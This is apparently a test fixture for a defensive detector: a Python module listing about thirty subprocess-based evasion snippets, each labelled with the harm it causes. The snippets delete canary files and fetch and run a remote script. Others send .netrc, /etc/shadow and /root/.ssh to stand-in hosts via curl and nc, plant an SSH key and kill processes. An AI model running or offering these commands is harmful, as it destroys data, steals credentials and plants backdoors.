"""Programs run by the module subprocess."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

sub = technique("python", "subprocess")

EVASIONS = (
    sub(
        "list",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["rm", "-f", "/etc/redblue-canary.conf"])
""",
    ),
    sub(
        "list-of-pieces",
        Harm.DESTROYED,
        r"""
import subprocess

program, *options = "r", "m", "-", "r"
subprocess.call(["".join([program, options[0]]), "".join(options[1:]), "/var/backups/canary"])
""",
    ),
    sub(
        "list-with-shell",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["rm -rf $0", "/home/mira/photos"], shell=True)
""",
    ),
    sub(
        "getoutput",
        Harm.DESTROYED,
        r"""
import subprocess

print(subprocess.getoutput("date; unlink /home/mira/notes.txt; date"))
""",
    ),
    sub(
        "getstatusoutput",
        Harm.RAN,
        r"""
import subprocess

status, text = subprocess.getstatusoutput("wget -qO- cdn.test:8000/setup.sh | sh")
""",
    ),
    sub(
        "check-output",
        Harm.SENT,
        r"""
from subprocess import check_output as read

read(("curl", "-s", "--upload-file", "/home/mira/.netrc", "http://collector.test:8000/netrc"))
""",
    ),
    sub(
        "popen-stdin",
        Harm.DESTROYED,
        r"""
import subprocess

child = subprocess.Popen(["sh"], stdin=subprocess.PIPE, text=True)
child.stdin.write("cd /etc\n")
child.stdin.write("rm redblue-canary.conf\n")
child.communicate()
""",
    ),
    sub(
        "run-input",
        Harm.KILLED,
        r"""
import subprocess

subprocess.run("bash", input=b"pkill -9 -x mira-editor")
""",
    ),
    sub(
        "executable",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["ls", "-f", "/var/lib/canary/data.db"], executable="/bin/rm")
""",
    ),
    sub(
        "environment-command",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run("$TOOL $PLACE", shell=True, env={"TOOL": "/bin/rm", "PLACE": "/home/mira/notes.txt"})
""",
    ),
    sub(
        "bash-env",
        Harm.DESTROYED,
        r"""
import os
import subprocess

with open("/tmp/setup", "w") as out:
    out.write("rm -f /etc/redblue-canary.conf\n")
subprocess.run(["bash", "-c", "true"], env={**os.environ, "BASH_ENV": "/tmp/setup"})
""",
    ),
    sub(
        "cwd",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["rm", "-r", "canary"], cwd="/var/backups")
""",
    ),
    sub(
        "preexec",
        Harm.DESTROYED,
        r"""
import os
import subprocess

subprocess.run(["true"], preexec_fn=lambda: os.remove("/var/lib/canary/data.db"))
""",
    ),
    sub(
        "stdout-to-file",
        Harm.PERSISTED,
        r"""
import subprocess

with open("/etc/profile.d/canary.sh", "a") as out:
    subprocess.run(["echo", "alias vi=true"], stdout=out)
""",
    ),
    sub(
        "stdout-empties",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["true"], stdout=open("/home/mira/notes.txt", "w"))
""",
    ),
    sub(
        "pipeline",
        Harm.SENT,
        r"""
import subprocess

read = subprocess.Popen(["base64", "/etc/shadow"], stdout=subprocess.PIPE)
subprocess.run(["nc", "-N", "127.0.0.1", "9001"], stdin=read.stdout)
""",
    ),
    sub(
        "tar-to-nc",
        Harm.SENT,
        r"""
import subprocess

a = subprocess.Popen("tar cf - -C /root .ssh".split(), stdout=-1)
b = subprocess.Popen("nc -N collector.test 9001".split(), stdin=a.stdout)
b.wait()
""",
    ),
    sub(
        "find-delete",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["find", "/home/mira", "-name", "*.raw", "-delete"])
""",
    ),
    sub(
        "xargs",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["xargs", "-0", "rm"], input=b"/etc/redblue-canary.conf\0")
""",
    ),
    sub(
        "sed-in-place",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["sed", "-i", "/key/d", "/etc/redblue-canary.conf"])
""",
    ),
    sub(
        "dd",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["dd", "if=/dev/zero", "of=/var/lib/canary/data.db", "bs=64", "count=1", "status=none"])
""",
    ),
    sub(
        "tee",
        Harm.PERSISTED,
        r"""
import subprocess

subprocess.run(["tee", "-a", "/root/.ssh/authorized_keys"], input=b"ssh-ed25519 AAAAx y@operator.test\n")
""",
    ),
    sub(
        "install",
        Harm.EXPOSED,
        r"""
import subprocess

subprocess.run(["install", "-m", "644", "/root/.ssh/id_canary", "/var/www/k.txt"])
""",
    ),
    sub(
        "git-alias",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["git", "-c", "alias.tidy=!rm -f /home/mira/notes.txt", "tidy"])
""",
        "git",
    ),
    sub(
        "awk",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["awk", 'BEGIN { system("rm -f /etc/redblue-canary.conf") }'])
""",
    ),
    sub(
        "perl",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["perl", "-e", "unlink q(/home/mira/notes.txt)"])
""",
    ),
    sub(
        "python-c",
        Harm.DESTROYED,
        r"""
import subprocess
import sys

subprocess.run([sys.executable or "python3", "-c", "import os; os.remove('/var/lib/canary/data.db')"])
""",
    ),
    sub(
        "python-on-stdin",
        Harm.DESTROYED,
        r"""
import subprocess

subprocess.run(["python3", "-"], input="import shutil\nshutil.rmtree('/var/backups/canary')\n", text=True)
""",
    ),
    sub(
        "python-c-in-shell-in-python",
        Harm.DESTROYED,
        r'''
import os

os.system("""bash -c 'python3 -c "import os; os.system(\\"rm -f /etc/redblue-canary.conf\\")"'""")
''',
    ),
    sub(
        "through-env-and-nohup",
        Harm.KILLED,
        r"""
import subprocess

subprocess.run("env LANG=C nohup timeout -s 9 5 nice -n 2 setsid -w pkill -x canary-db".split())
""",
    ),
)
